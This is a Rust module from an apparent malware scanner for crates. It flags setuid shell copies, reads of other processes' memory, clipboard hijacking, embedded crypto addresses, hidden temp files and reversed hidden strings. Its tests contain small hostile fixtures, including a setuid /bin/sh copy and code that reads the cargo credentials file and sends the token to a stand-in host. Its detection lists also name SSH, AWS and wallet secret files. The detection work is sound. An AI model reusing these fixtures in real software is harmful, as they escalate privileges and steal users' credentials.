//! What the tokens of a file say together: a shell that gets the rights of its owner, the memory of
//! another process, a clipboard that is read and written, accounts that are written down, and texts
//! that nobody can read before the program runs.
//!
//! None of it needs a parser. Each is one fact for a file.

use super::facts::Raw;
use super::lex::{Kind, Lexer, unquote};
use crate::check::parse::harm;
use crate::model::FactKind;

/// A shell is copied, and files get the rights of their owner.
const SHELL: &str = "setuid-shell";
/// The memory of a process that is not this one is opened.
const MEMORY: &str = "other-memory";
/// The clipboard is read and written.
const CLIPBOARD: &str = "clipboard-both";
/// An account that money goes to.
const ACCOUNT: &str = "account-written";
/// A file that nobody sees is made where all users of the machine may read.
const UNSEEN: &str = "hidden-temporary";
/// Words are told by the lengths of private keys.
const LENGTHS: &str = "key-lengths";
/// The file counts money.
const PAYS: &str = "pays";

/// Words of money, of which one stands in every file that pays.
const MONEY: &[&str] = &["lamports", "satoshi", "payee", "payout", "recipient", "wei_", "Lamports"];
/// Fewest letters of hidden texts.
const LETTERS: usize = 14;

/// Whether a text may have letters in it that the program puts together by arithmetic or backwards.
pub fn may_hide(text: &str) -> bool {
    let has = |word: &str| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some();
    has(".rev()") && has("chars()") && has("collect") || has("as char)") && (has("collect") || has("push("))
}

/// Whether the only secret that a file names is the token of the crates' registry, and the only host that
/// registry: the token is meant for it.
pub fn keeps_own_token(text: &str) -> bool {
    let has = |word: &str| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some();
    let hosts: Vec<&str> =
        ["https://", "http://"].iter().flat_map(|scheme| text.split(scheme).skip(1)).collect();
    let other =
        ["id_rsa", "id_ed25519", ".ssh", ".aws", ".netrc", ".npmrc", ".pypirc", ".kube", ".docker", "wallet"];
    has("credentials")
        && !hosts.is_empty()
        && hosts.iter().all(|rest| rest.starts_with("crates.io/") || rest.starts_with("crates.io\""))
        && !other.iter().any(|word| has(word))
}

/// The facts.
pub fn facts(text: &str) -> Vec<Raw> {
    let has = |word: &str| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some();
    let shell = has("0o") && (has("/sh\"") || has("bash\"") || has("/dash\"")) && has("copy(");
    let memory = has("/proc/") && has("/mem\"") || has("process_vm_readv(");
    let account = has("\"0x") || has("\"bc1");
    let unseen = (has("tmp/.") || has("/dev/shm/.")) && (has("create(") || has("write(") || has("copy("));
    let lengths = (has("64") || has("66")) && (has("51") || has("52") || has("87") || has("88"));
    let mut out = Vec::new();
    if shell || memory || account || unseen || lengths {
        tokens(text, shell, &mut out);
    }
    let place = |word: &str| memchr::memmem::find(text.as_bytes(), word.as_bytes());
    let reads = ["get_text(", "get_contents("].iter().find_map(|word| place(word));
    let writes = ["set_text(", "set_contents("].iter().find_map(|word| place(word));
    if let (Some(_), Some(at)) = (reads, writes) {
        out.push(Raw::new(FactKind::Shape, CLIPBOARD, at..at + 8));
    }
    if let Some(at) = MONEY.iter().filter_map(|word| place(word)).min() {
        out.push(Raw::new(FactKind::Shape, PAYS, at..at + 1));
    }
    out
}

fn tokens(text: &str, shell: bool, out: &mut Vec<Raw>) {
    let (mut mode, mut program) = (None, false);
    let writes = [".create(", "fs::write(", "File::create(", "fs::copy("]
        .iter()
        .any(|word| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some());
    let mut numbers: Vec<u64> = Vec::new();
    for token in Lexer::new(text) {
        let word = text.get(token.start..token.end).unwrap_or_default();
        // `64 | 66 | 87 | 88`, `[64, 88]`
        match token.kind {
            Kind::Number => numbers.push(word.parse().unwrap_or(0)),
            Kind::Punct if matches!(token.first, b'|' | b',') => {}
            _ => {
                if are_key_lengths(&numbers) {
                    out.push(Raw::new(FactKind::Shape, LENGTHS, token.start..token.end));
                }
                numbers.clear();
            }
        }
        match token.kind {
            Kind::Number if shell && is_setuid(word) => mode = Some(token.start..token.end),
            Kind::Ident if word == "process_vm_readv" => {
                out.push(Raw::new(FactKind::Shape, MEMORY, token.start..token.end).value(word));
            }
            Kind::Str | Kind::RawStr if word.len() < 200 => {
                let Some(inner) = unquote(word) else { continue };
                program |= is_shell(&inner);
                if writes && is_unseen(&inner) {
                    out.push(Raw::new(FactKind::Shape, UNSEEN, token.start..token.end).value(&*inner));
                }
                if is_memory(&inner) {
                    out.push(Raw::new(FactKind::Shape, MEMORY, token.start..token.end).value(&*inner));
                }
                if harm::is_account(&inner) && (inner.starts_with("0x") || inner.starts_with("bc1")) {
                    out.push(Raw::new(FactKind::Shape, ACCOUNT, token.start..token.end).value(&*inner));
                }
            }
            _ => {}
        }
    }
    if let Some(range) = mode.filter(|_| program) {
        out.push(Raw::new(FactKind::Shape, SHELL, range));
    }
}

/// `0o4755`: what somebody sets; not `0o4000` and `0o7777`, which pick bits.
fn is_setuid(word: &str) -> bool {
    let digits: String = word.bytes().filter(|byte| *byte != b'_').map(char::from).collect();
    let Some(mode) = digits.strip_prefix("0o").and_then(|digits| {
        let end = digits.find(|c: char| !c.is_digit(8)).unwrap_or(digits.len());
        u32::from_str_radix(digits.get(..end)?, 8).ok()
    }) else {
        return false;
    };
    mode & 0o6000 != 0 && mode <= 0o7777 && mode & 0o111 != 0 && mode & 0o777 != 0o777
}

fn is_shell(text: &str) -> bool {
    text.starts_with('/')
        && ["sh", "bash", "dash", "zsh", "ash", "busybox"]
            .iter()
            .any(|name| text.rsplit('/').next() == Some(name))
}

/// `/proc/{pid}/mem`, of whichever process that is.
fn is_memory(text: &str) -> bool {
    text.strip_prefix("/proc/")
        .and_then(|rest| rest.strip_suffix("/mem"))
        .is_some_and(|of| of.starts_with('{') && of.ends_with('}') || of.bytes().all(|b| b.is_ascii_digit()))
}

/// `/var/tmp/.lock`: a name that starts with a dot, in a folder of all users. Those of the window system are known.
fn is_unseen(text: &str) -> bool {
    ["/tmp/.", "/var/tmp/.", "/dev/shm/."].iter().any(|folder| {
        text.strip_prefix(folder).is_some_and(|rest| {
            let known = *folder == "/tmp/." && (rest.starts_with('X') || rest.starts_with("ICE"));
            !known && rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '{' || c == '_')
        })
    })
}

/// Whether numbers are lengths of private keys: in hexadecimal digits, and in base 58.
fn are_key_lengths(numbers: &[u64]) -> bool {
    let any = |wanted: &[u64]| numbers.iter().any(|number| wanted.contains(number));
    numbers.len() <= 8
        && any(&[64, 66])
        && any(&[51, 52, 87, 88])
        && numbers.iter().all(|number| (40..=130).contains(number))
}

/// Whether what arithmetic on constants hides in a file is as much as somebody would hide: two texts or a
/// long one.
pub fn hidden(raws: &[Raw]) -> Option<Raw> {
    let mut texts: Vec<&Raw> = raws
        .iter()
        .filter(|raw| {
            raw.kind == FactKind::Shape && matches!(raw.name.as_str(), "hidden-text" | "hidden-name")
        })
        .filter(|raw| raw.value.bytes().filter(u8::is_ascii_alphabetic).count() > 3)
        // A table that is packed into one text has many words of one form.
        .filter(|raw| raw.name == "hidden-name" || raw.value.split_whitespace().count() < 5)
        .collect();
    texts.sort_by(|a, b| a.value.cmp(&b.value));
    texts.dedup_by(|a, b| a.value == b.value);
    let long = texts.iter().any(|raw| raw.value.bytes().filter(u8::is_ascii_alphabetic).count() >= LETTERS);
    let first = texts.iter().min_by_key(|raw| raw.start)?;
    (long || texts.len() > 1)
        .then(|| Raw::new(FactKind::Shape, "hidden-texts", first.start..first.end).value(&*first.value))
}

#[cfg(test)]
mod tests {
    use crate::check::parse::rust::tests::has;

    #[test]
    fn what_tokens_say() {
        let shell = |mode: &str| {
            format!(
                "fn f() {{ std::fs::copy(\"/bin/sh\", p).ok(); set(p, Permissions::from_mode({mode})); }}"
            )
        };
        assert!(has("src/a.rs", &shell("0o4755"), "setuid-shell"));
        for mode in ["0o755", "0o4000", "0o7777", "0o1777"] {
            assert!(!has("src/a.rs", &shell(mode), "setuid-shell"), "{mode}");
        }
        assert!(has("src/a.rs", "fn f(pid: i32) { open(format!(\"/proc/{pid}/mem\")) }", "other-memory"));
        assert!(!has("src/a.rs", "fn f() { open(\"/proc/self/mem\") }", "other-memory"));
        let write = |file: &str| format!("fn f() {{ std::fs::write(\"{file}\", x).ok(); }}");
        assert!(has("src/a.rs", &write("/var/tmp/.X1-lock"), "hidden-temporary"));
        assert!(!has("src/a.rs", &write("/tmp/.X11-unix/X0"), "hidden-temporary"));
        assert!(!has("src/a.rs", &write("/tmp/a.lock"), "hidden-temporary"));
        assert!(has("src/a.rs", "fn f(w: usize) -> bool { matches!(w, 64 | 66 | 87 | 88) }", "key-lengths"));
        assert!(!has(
            "src/a.rs",
            "fn f(w: usize) -> bool { matches!(w, 32 | 40 | 64 | 128) }",
            "key-lengths"
        ));
        assert!(has(
            "src/a.rs",
            "fn f(b: &mut B) { let t = b.get_text(); b.set_text(x); }",
            "clipboard-both"
        ));
        assert!(!has("src/a.rs", "fn f(b: &mut B) { let t = b.get_text(); }", "clipboard-both"));
    }

    #[test]
    fn texts_that_are_hidden() {
        let un = "fn un(s: &str) -> String { s.chars().rev().filter(|c| *c != '_').collect() }";
        let two = format!("{un} fn f(p: &Path) -> P {{ p.join(un(\"d_roc_sid\")).join(un(\"bd_lev_el\")) }}");
        assert!(has("src/a.rs", &two, "hidden-texts"));
        let one = format!("{un} fn f(p: &Path) -> P {{ p.join(un(\"d_roc_sid\")) }}");
        assert!(!has("src/a.rs", &one, "hidden-texts"));
    }

    #[test]
    fn the_registrys_own_token() {
        let source = |host: &str| {
            format!(
                "fn f() {{ let t = std::fs::read_to_string(home.join(\".cargo/credentials.toml\")).unwrap();
                let _ = ureq::put(\"{host}\").set(\"Authorization\", &t).send_string(&t); }}"
            )
        };
        assert!(!has("src/a.rs", &source("https://crates.io/api/v1/x"), "secret-file->net"));
        assert!(has("src/a.rs", &source("https://crates.invalid/api/v1/x"), "secret-file->net"));
    }
}
